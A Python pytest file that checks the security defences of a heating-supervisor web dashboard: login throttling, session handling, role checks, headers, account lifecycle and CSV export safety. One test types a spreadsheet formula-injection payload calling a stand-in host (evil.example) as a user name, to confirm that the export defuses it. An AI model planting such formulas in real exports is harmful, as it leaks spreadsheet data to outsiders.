"""The dashboard's defences, each against the real app, service and SQLite file: export roles,
the login throttle under concurrent guessing, equal-cost logins for unknown names, CSV
formula cells, sessions after a password change, security headers on every response, the
scrypt upgrade, account lifecycle (disable, delete, forced and self-service password changes,
never the last admin), alarm acknowledgements only once sent, and scoped, fresh collector
readings."""

from __future__ import annotations

import asyncio
import csv
import hashlib
import io
import os
import re
import stat
from collections.abc import AsyncIterator
from typing import Any

import aiohttp
import pytest
from aiohttp.test_utils import TestClient, TestServer
from heatkeeper.core import codec
from heatkeeper.supervisor import main, users
from heatkeeper.supervisor.service import SupervisorService
from heatkeeper.supervisor.service_errors import ServiceError
from heatkeeper.supervisor.storage import open_storage
from heatkeeper.supervisor.storage.base import StorageError
from heatkeeper.supervisor.storage.postgres import PostgresStorage
from heatkeeper.supervisor.web import create_app
from heatkeeper.supervisor.web.common import AUDIT_BUDGET, THROTTLE

from .conftest import C2_ONLY_TOKEN, COLLECTOR_TOKEN, PASSWORDS, WEB_CONFIG, app_of, login, supervisor_config


@pytest.fixture
async def elsewhere(client: TestClient) -> AsyncIterator[aiohttp.ClientSession]:
    """A second browser on another address (127.0.0.2), with its own cookies."""
    connector = aiohttp.TCPConnector(local_addr=("127.0.0.2", 0))
    async with aiohttp.ClientSession(connector=connector, cookie_jar=aiohttp.CookieJar(unsafe=True)) as other:
        yield other


async def form_login(http: Any, url: Any, username: str, password: str) -> tuple[int, str]:
    """Log in through the form with `http` (a TestClient or a ClientSession on `url`'s server);
    (status, Location)."""
    if isinstance(http, TestClient):
        url = str  # the test client takes paths
    page = await http.get(url("/login"))
    token = re.search(r'name="csrf" value="([^"]+)"', await page.text())
    assert token is not None
    resp = await http.post(url("/login"), data={"username": username, "password": password, "csrf": token.group(1)},
                           allow_redirects=False)
    return resp.status, resp.headers.get("Location", "")


async def page_csrf(http: Any, url: Any) -> str:
    home = await http.get(url("/"))
    found = re.search(r'"csrf":"([^"]+)"', await home.text())
    assert found is not None, await home.text()
    return found.group(1)


class KdfCounter:
    """Counts scrypt runs (password checks and hashes) while installed."""

    def __init__(self, monkeypatch: pytest.MonkeyPatch) -> None:
        self.calls = 0
        real = hashlib.scrypt

        def counting(*args: Any, **kw: Any) -> bytes:
            self.calls += 1
            return real(*args, **kw)

        monkeypatch.setattr(hashlib, "scrypt", counting)


# --- M1: the audit log is not for viewers, in any format ---------------------------------------------
async def test_a_viewer_cannot_export_the_audit_log(client: TestClient, service: SupervisorService,
                                                    monkeypatch: pytest.MonkeyPatch) -> None:
    await service.audit_log.record(user="oli", action="command:set_mode", station_id="st-a", detail="secret-ish", result="sent")
    await login(client, "vic")
    asked: list[str] = []
    real_export = service.reporting.export_csv

    async def spy(kind: str, **kw: Any) -> str:
        asked.append(kind)
        return await real_export(kind, **kw)

    monkeypatch.setattr(service.reporting, "export_csv", spy)
    resp = await client.get("/export/audit.csv")
    assert resp.status == 403
    body = await resp.json()
    assert body["error"] == "forbidden" and "viewer" in body["reason"] and "operator" in body["reason"]
    assert asked == []  # refused before the service was asked
    assert (await client.get("/export/alarms.csv")).status == 200
    client.session.cookie_jar.clear()
    await login(client, "oli")
    resp = await client.get("/export/audit.csv")
    assert resp.status == 200 and "secret-ish" in await resp.text()


# --- M2: the login throttle ---------------------------------------------------------------------------
async def test_concurrent_guesses_are_all_counted_and_the_real_user_still_gets_in(
        client: TestClient, service: SupervisorService, elsewhere: aiohttp.ClientSession,
        monkeypatch: pytest.MonkeyPatch) -> None:
    throttle = app_of(client)[THROTTLE]
    throttle.max_delay_s = 0.2  # the growing delay, kept short for the test
    page = await client.get("/login")
    token = re.search(r'name="csrf" value="([^"]+)"', await page.text())
    assert token is not None
    kdf = KdfCounter(monkeypatch)

    async def guess(i: int) -> int:
        resp = await client.post("/login", data={"username": "ada", "password": "guess-%d" % i, "csrf": token.group(1)},
                                 allow_redirects=False)
        return resp.status

    statuses = await asyncio.gather(*(guess(i) for i in range(40)))
    assert statuses.count(429) >= 30, statuses  # this address has 10 attempts, however concurrent
    assert statuses.count(401) <= 10 and set(statuses) <= {401, 429}, statuses
    assert kdf.calls <= 10  # no password check for refused attempts
    # The sprayer is still refused, with a time to wait ...
    again = await client.post("/login", data={"username": "ada", "password": "admin-pass-1", "csrf": token.group(1)},
                              allow_redirects=False)
    assert again.status == 429 and int(again.headers["Retry-After"]) >= 1
    # ... but the real admin, from another address, logs in with the right password.
    status, location = await form_login(elsewhere, client.make_url, "ada", "admin-pass-1")
    assert (status, location) == (302, "/")
    me = await elsewhere.get(client.make_url("/api/me"))
    assert (await me.json())["username"] == "ada"
    # Refused logins cannot flood the audit log: rows are capped, the rest counted.
    rows = [a for a in await service.audit_log.rows(500) if a["action"] == "login" and a["result"] in ("denied", "refused")]
    budget = app_of(client)[AUDIT_BUDGET]
    assert len(rows) <= budget.limit and budget.left_out_total == 40 + 1 - len(rows)


async def test_behind_a_trusted_proxy_each_client_has_its_own_bucket(service: SupervisorService) -> None:
    async def wrong_logins(c: TestClient, forwarded_for: str, n: int) -> list[int]:
        page = await c.get("/login")
        token = re.search(r'name="csrf" value="([^"]+)"', await page.text())
        assert token is not None
        out = []
        for _ in range(n):
            resp = await c.post("/login", data={"username": "nobody", "password": "x-1234567", "csrf": token.group(1)},
                                headers={"X-Forwarded-For": forwarded_for})
            out.append(resp.status)
        return out

    proxied = create_app(service, {**WEB_CONFIG, "trusted_proxies": ["127.0.0.1"]})
    async with TestClient(TestServer(proxied, host="127.0.0.1")) as c:
        app_of(c)[THROTTLE].max_delay_s = 0.0
        assert await wrong_logins(c, "10.0.0.1", 11) == [401] * 10 + [429]
        # another client behind the proxy is not throttled; a forged first entry changes nothing
        assert await wrong_logins(c, "203.0.113.9, 10.0.0.2", 1) == [401]
        assert await wrong_logins(c, "10.0.0.2, 10.0.0.1", 1) == [429]
    direct = create_app(service, WEB_CONFIG)  # no proxy trusted: the header is the client's word, ignored
    async with TestClient(TestServer(direct, host="127.0.0.1")) as c:
        app_of(c)[THROTTLE].max_delay_s = 0.0
        statuses = [s for i in range(11) for s in await wrong_logins(c, "10.9.0.%d" % i, 1)]
        assert statuses == [401] * 10 + [429]


async def test_refused_login_audit_rows_are_summarised(client: TestClient, service: SupervisorService) -> None:
    budget = app_of(client)[AUDIT_BUDGET]
    budget.limit = 2
    app_of(client)[THROTTLE].max_delay_s = 0.0
    for _ in range(5):
        status, _ = await form_login(client, client.make_url, "nobody", "wrong-password")
        assert status == 401
    budget.window_s = 0.0  # the next window starts now
    await form_login(client, client.make_url, "nobody", "wrong-password")
    rows = [a for a in await service.audit_log.rows(50) if a["action"] == "login"]
    assert [r["result"] for r in rows] == ["denied", "summary", "denied", "denied"]
    assert "3 refused or failed logins were counted but not itemised" in rows[1]["detail"]


# --- M3: unknown names cost one password check, like known ones --------------------------------------------
async def test_unknown_and_known_names_run_the_same_password_check(client: TestClient, service: SupervisorService,
                                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    assert (await form_login(client, client.make_url, "warm-up", "whatever-1"))[0] == 401  # makes the dummy hash
    kdf = KdfCounter(monkeypatch)
    assert (await form_login(client, client.make_url, "nobody", "whatever-1"))[0] == 401
    unknown = kdf.calls
    assert (await form_login(client, client.make_url, "oli", "whatever-1"))[0] == 401
    known = kdf.calls - unknown
    assert unknown == known == 1


# --- M4: CSV cells ------------------------------------------------------------------------------------
async def test_a_formula_typed_as_a_user_name_is_inert_in_the_audit_export(client: TestClient) -> None:
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    assert (await form_login(client, client.make_url, evil, "whatever-1"))[0] == 401
    await login(client, "oli")
    rows = list(csv.DictReader(io.StringIO(await (await client.get("/export/audit.csv")).text(), newline="")))
    users_seen = [r["user"] for r in rows if r["action"] == "login"]
    assert "'" + evil[:64] in users_seen and evil[:64] not in users_seen
    assert all(not u.startswith(("=", "+", "-", "@")) for r in rows for u in r.values())


# --- M5 and L8: password changes end the other sessions ---------------------------------------------------
async def test_changing_your_own_password_ends_your_other_sessions(client: TestClient, service: SupervisorService,
                                                                   elsewhere: aiohttp.ClientSession) -> None:
    url = client.make_url
    csrf = await login(client, "ada")
    old_token = client.session.cookie_jar.filter_cookies(url("/"))["hk_session"].value
    assert (await form_login(elsewhere, url, "ada", "admin-pass-1"))[0] == 302
    assert (await elsewhere.get(url("/api/users"))).status == 200
    resp = await client.post("/api/users/ada", headers={"X-CSRF-Token": csrf}, json={"password": "admin-pass-2"})
    assert resp.status == 200, await resp.text()
    body = await resp.json()
    assert (await elsewhere.get(url("/api/users"))).status == 401  # the other session ended
    new_token = client.session.cookie_jar.filter_cookies(url("/"))["hk_session"].value
    assert new_token != old_token  # this one goes on under a new token ...
    assert (await client.get("/api/users")).status == 200
    stale = await elsewhere.get(url("/api/users"), cookies={"hk_session": old_token})
    assert stale.status == 401  # ... and the old token is dead
    assert body["csrf"] != csrf
    ok = await client.post("/api/me/lang", json={"lang": "en"}, headers={"X-CSRF-Token": body["csrf"]})
    assert ok.status == 200


async def test_every_role_changes_its_own_password(client: TestClient, service: SupervisorService,
                                                   elsewhere: aiohttp.ClientSession) -> None:
    url = client.make_url
    for name in ("vic", "oli"):
        client.session.cookie_jar.clear()
        elsewhere.cookie_jar.clear()
        csrf = await login(client, name)
        assert (await form_login(elsewhere, url, name, PASSWORDS[name][1]))[0] == 302
        wrong = await client.post("/api/me/password", headers={"X-CSRF-Token": csrf},
                                  json={"current_password": "not-it-at-all", "new_password": "brand-new-pass"})
        assert wrong.status == 403 and (await wrong.json())["error"] == "wrong_password"
        short = await client.post("/api/me/password", headers={"X-CSRF-Token": csrf},
                                  json={"current_password": PASSWORDS[name][1], "new_password": "short"})
        assert short.status == 400
        resp = await client.post("/api/me/password", headers={"X-CSRF-Token": csrf},
                                 json={"current_password": PASSWORDS[name][1], "new_password": "brand-new-pass"})
        assert resp.status == 200, await resp.text()
        assert (await elsewhere.get(url("/api/me"))).status == 401
        assert (await client.get("/api/me")).status == 200
        client.session.cookie_jar.clear()
        assert (await form_login(client, url, name, PASSWORDS[name][1]))[0] == 401
        assert (await form_login(client, url, name, "brand-new-pass"))[0] == 302
    results = [(a["user"], a["result"]) for a in await service.audit_log.rows(100) if a["action"] == "change_password"]
    assert ("vic", "ok") in results and ("oli", "ok") in results and ("vic", "denied") in results


# --- M12 and L1: transport security and headers on every response ------------------------------------------
async def test_headers_are_on_redirects_and_raised_errors(client: TestClient) -> None:
    for method, path, status in (("GET", "/", 302), ("GET", "/loginx", 404), ("GET", "/api/users", 401),
                                 ("PUT", "/login", 405), ("GET", "/lang/en", 405), ("GET", "/static/nothing.js", 404)):
        resp = await client.request(method, path, allow_redirects=False)
        assert resp.status == status, path
        assert "frame-ancestors 'none'" in resp.headers.get("Content-Security-Policy", ""), path
        assert resp.headers.get("X-Frame-Options") == "DENY", path
        assert resp.headers.get("X-Content-Type-Options") == "nosniff", path
        assert "Strict-Transport-Security" not in resp.headers  # not behind TLS: no HSTS


async def test_behind_tls_cookies_are_secure_and_hsts_is_sent(service: SupervisorService) -> None:
    app = create_app(service, {**WEB_CONFIG, "cookie_secure": True, "host": "0.0.0.0"})
    async with TestClient(TestServer(app, host="127.0.0.1")) as c:
        redirect = await c.get("/", allow_redirects=False)
        assert redirect.headers["Strict-Transport-Security"].startswith("max-age=")
        page = await c.get("/login")
        token = re.search(r'name="csrf" value="([^"]+)"', await page.text())
        assert token is not None
        prelogin = [h for h in page.headers.getall("Set-Cookie") if h.startswith("hk_prelogin=")][0]
        assert "Secure" in prelogin
        # a client keeps Secure cookies off plain HTTP: this test sends it by hand (TLS ends at the proxy)
        resp = await c.post("/login", data={"username": "vic", "password": "view-pass-1", "csrf": token.group(1)},
                            headers={"Cookie": "hk_prelogin=" + token.group(1)}, allow_redirects=False)
        cookie = [h for h in resp.headers.getall("Set-Cookie") if h.startswith("hk_session=")][0]
        assert "Secure" in cookie and "HttpOnly" in cookie


async def test_the_supervisor_refuses_a_plaintext_dashboard_off_loopback(tmp_path: Any) -> None:
    from heatkeeper.supervisor import config as sup_config

    with pytest.raises(sup_config.ConfigError) as info:
        sup_config.validate({"web": {"host": "0.0.0.0"}})
    assert "web.host='0.0.0.0': not a loopback address" in str(info.value)
    assert sup_config.validate({"web": {"host": "0.0.0.0", "cookie_secure": True}})["web"]["cookie_secure"] is True


# --- L2: scrypt cost raised, old hashes upgraded at login ----------------------------------------------------
async def test_an_old_hash_is_upgraded_at_the_next_login(client: TestClient, service: SupervisorService,
                                                         monkeypatch: pytest.MonkeyPatch) -> None:
    before = await service.storage.user("vic")
    assert before is not None and before["password_hash"].split("$")[1] == "16384"
    monkeypatch.setattr(users, "SCRYPT_N", 2**17)
    await login(client, "vic")
    after = await service.storage.user("vic")
    assert after is not None and after["password_hash"].split("$")[1:4] == ["131072", "8", "1"]
    client.session.cookie_jar.clear()
    await login(client, "vic")  # the new hash verifies


# --- L3: the database file ------------------------------------------------------------------------------
async def test_the_sqlite_database_is_created_private(tmp_path: Any) -> None:
    old = os.umask(0o022)
    try:
        storage = open_storage("sqlite", path=str(tmp_path / "fresh.db"))
        await storage.open()
        await storage.audit_insert(1.0, "u", "a", None, "", "")
        await storage.close()
    finally:
        os.umask(old)
    assert stat.S_IMODE(os.stat(tmp_path / "fresh.db").st_mode) == 0o600


# --- L4: the PostgreSQL password stays out of messages ----------------------------------------------------
async def test_a_failed_postgres_connection_does_not_show_the_password() -> None:
    from heatkeeper.tools.procs import free_port

    port = free_port()  # nothing listens here
    storage = PostgresStorage("postgresql://heatkeeper:Sup3r-s3cret@127.0.0.1:%d/heatkeeper" % port)
    with pytest.raises(StorageError) as info:
        await storage.open()
    text = str(info.value)
    assert "cannot connect to PostgreSQL" in text and "heatkeeper:***@127.0.0.1" in text
    assert "Sup3r-s3cret" not in text and "Sup3r-s3cret" not in repr(storage)
    assert info.value.__cause__ is None and info.value.__suppress_context__


# --- L8: account lifecycle ------------------------------------------------------------------------------
async def test_an_admin_disables_enables_and_deletes_users(client: TestClient, service: SupervisorService,
                                                           elsewhere: aiohttp.ClientSession) -> None:
    url = client.make_url
    assert (await form_login(elsewhere, url, "vic", "view-pass-1"))[0] == 302
    csrf = await login(client, "ada")
    h = {"X-CSRF-Token": csrf}
    resp = await client.post("/api/users/vic", headers=h, json={"disabled": True})
    assert resp.status == 200 and (await resp.json())["sessions_ended"] == 1
    assert (await elsewhere.get(url("/api/me"))).status == 401  # vic's open session ended
    elsewhere.cookie_jar.clear()
    assert (await form_login(elsewhere, url, "vic", "view-pass-1"))[0] == 401  # the right password no longer works
    listed = {u["username"]: u for u in (await (await client.get("/api/users")).json())["users"]}
    assert listed["vic"]["disabled"] is True and listed["oli"]["disabled"] is False
    assert (await client.post("/api/users/vic", headers=h, json={"disabled": False})).status == 200
    assert (await form_login(elsewhere, url, "vic", "view-pass-1"))[0] == 302
    assert (await client.post("/api/users/vic", headers=h, json={"disabled": "yes"})).status == 400
    assert (await client.post("/api/users/ada", headers=h, json={"disabled": True})).status == 400  # not yourself
    # delete
    resp = await client.delete("/api/users/vic", headers=h)
    assert resp.status == 200
    assert (await elsewhere.get(url("/api/me"))).status == 401
    assert "vic" not in [u["username"] for u in await service.accounts.list_users()]
    assert (await client.delete("/api/users/vic", headers=h)).status == 404
    assert (await client.delete("/api/users/ada", headers=h)).status == 400
    assert (await client.delete("/api/users/oli")).status == 403  # CSRF
    audit = [(a["user"], a["action"], a["detail"]) for a in await service.audit_log.rows(100)]
    assert ("ada", "update_user", "vic disabled") in audit and ("ada", "delete_user", "vic") in audit
    # an operator may not
    client.session.cookie_jar.clear()
    csrf = await login(client, "oli")
    assert (await client.delete("/api/users/ada", headers={"X-CSRF-Token": csrf})).status == 403
    assert (await client.post("/api/users/ada", headers={"X-CSRF-Token": csrf}, json={"disabled": True})).status == 403


async def test_the_last_enabled_admin_cannot_be_removed(service: SupervisorService) -> None:
    for change in ({"role": "viewer"}, {"disabled": True}):
        with pytest.raises(ServiceError) as info:
            await service.accounts.set_user("ada", "cli", **change)  # type: ignore[arg-type]
        assert info.value.reason == "last_admin"
    with pytest.raises(ServiceError):
        await service.accounts.delete_user("ada", "cli")
    await service.accounts.create_user("zed", "zed-pass-123", "admin")
    await service.accounts.set_user("zed", "ada", disabled=True)
    with pytest.raises(ServiceError):  # a disabled admin does not count
        await service.accounts.set_user("ada", "zed", role="operator")
    await service.accounts.set_user("zed", "ada", disabled=False)
    await service.accounts.set_user("ada", "zed", role="operator")  # now another admin remains
    with pytest.raises(ServiceError):
        await service.accounts.delete_user("zed", "cli")
    roles = {u["username"]: u["role"] for u in await service.accounts.list_users()}
    assert roles["ada"] == "operator" and roles["zed"] == "admin"


async def test_the_initial_admin_must_change_the_password_and_its_file_goes(tmp_path: Any, fast_kdf: None) -> None:
    cfg = supervisor_config(tmp_path)
    cfg["supervisor"]["data_dir"] = str(tmp_path)
    svc = SupervisorService(open_storage("sqlite", path=str(tmp_path / "sup.db")), cfg)
    await svc.start()
    try:
        await main._first_admin(svc, str(tmp_path))
        path = tmp_path / "initial-admin-password"
        initial = path.read_text().strip()
        assert stat.S_IMODE(os.stat(path).st_mode) == 0o600
        async with TestClient(TestServer(create_app(svc, WEB_CONFIG), host="127.0.0.1")) as c:
            assert await form_login(c, c.make_url, "admin", initial) == (302, "/password")
            for path_ in ("/", "/users", "/alarms"):
                resp = await c.get(path_, allow_redirects=False)
                assert resp.status == 302 and resp.headers["Location"] == "/password", path_
            api = await c.get("/api/users")
            assert api.status == 403 and (await api.json())["error"] == "password_change_required"
            form = await c.get("/password")
            text = await form.text()
            assert form.status == 200 and 'id="pw-forced"' in text
            csrf = re.search(r'name="csrf" value="([^"]+)"', text)
            assert csrf is not None
            mismatch = await c.post("/password", data={"csrf": csrf.group(1), "current": initial, "new": "admin-new-pass",
                                                       "confirm": "admin-other"})
            assert mismatch.status == 400 and path.exists()
            same = await c.post("/password", data={"csrf": csrf.group(1), "current": initial, "new": initial,
                                                   "confirm": initial})
            assert same.status == 400 and "must differ" in await same.text()
            done = await c.post("/password", data={"csrf": csrf.group(1), "current": initial, "new": "admin-new-pass",
                                                   "confirm": "admin-new-pass"}, allow_redirects=False)
            assert done.status == 302 and done.headers["Location"] == "/?password=changed"
            assert not path.exists()  # the old password's file is gone
            assert (await c.get("/users")).status == 200
            c.session.cookie_jar.clear()
            assert await form_login(c, c.make_url, "admin", "admin-new-pass") == (302, "/")
            c.session.cookie_jar.clear()
            assert (await form_login(c, c.make_url, "admin", initial))[0] == 401
    finally:
        await svc.stop()


# --- L9: an acknowledgement is recorded only once sent -----------------------------------------------------
async def test_an_alarm_ack_that_could_not_be_sent_is_not_recorded(client: TestClient, service: SupervisorService) -> None:
    topic, payload = codec.encode_uplink("st-a", 1, codec.UP_ALARM, service.clock(),
                                         {"code": "pump1_fault", "severity": "alarm", "state": "active", "text": "trip"})
    service.ingest.handle(topic, payload)
    await service.ingest.flush()
    csrf = await login(client, "oli")
    resp = await client.post("/api/alarms/ack", headers={"X-CSRF-Token": csrf}, json={"station_id": "st-a",
                                                                                      "code": "pump1_fault"})
    assert resp.status == 503 and (await resp.json())["error"] == "not_connected"
    row = [a for a in await service.alarm_desk.alarms("st-a", True) if a["code"] == "pump1_fault"][0]
    assert row["acked_by"] is None and row["acked_ts"] is None

    sent: list[tuple[str, bytes]] = []

    async def broker(topic: str, payload: bytes, qos: int, retain: bool) -> None:
        sent.append((topic, payload))

    service.link.set_publisher(broker)
    resp = await client.post("/api/alarms/ack", headers={"X-CSRF-Token": csrf}, json={"station_id": "st-a",
                                                                                      "code": "pump1_fault"})
    assert resp.status == 200 and len(sent) == 1
    row = [a for a in await service.alarm_desk.alarms("st-a", True) if a["code"] == "pump1_fault"][0]
    assert row["acked_by"] == "oli"


# --- M11: collector tokens are scoped, readings must be fresh ----------------------------------------------
async def test_a_collector_token_writes_only_its_collectors_and_only_fresh_readings(
        client: TestClient, service: SupervisorService) -> None:
    now = service.clock()
    scoped = {"Authorization": "Bearer " + C2_ONLY_TOKEN}
    resp = await client.post("/api/collectors/readings", headers=scoped, json={"readings": [
        {"collector": "c1", "temp_c": 30.0, "ts": now}, {"collector": "c2", "temp_c": 19.5, "ts": now}]})
    result = (await resp.json())["result"]
    assert result["accepted"] == 1
    assert result["rejected"] == [{"collector": "c1", "reason": "not_in_scope",
                                   "detail": "collector 'c1': the API token of vendor-y may not write it"}]
    full = {"Authorization": "Bearer " + COLLECTOR_TOKEN}
    resp = await client.post("/api/collectors/readings", headers=full, json={"readings": [
        {"collector": "c1", "temp_c": 12.0, "ts": now - 2 * 86400}, {"collector": "c1", "temp_c": 12.0, "ts": now + 3600}]})
    result = (await resp.json())["result"]
    assert result["accepted"] == 0
    assert [r["reason"] for r in result["rejected"]] == ["stale_ts", "future_ts"]
    assert "older than collectors.max_age_s=1800 s are refused" in result["rejected"][0]["detail"]
    assert "ahead of the supervisor's clock" in result["rejected"][1]["detail"]
    stored = await service.storage.readings("st-a", now - 3 * 86400, now + 7200)
    assert [(r[0], r[2]) for r in stored] == [("c2", 19.5)]
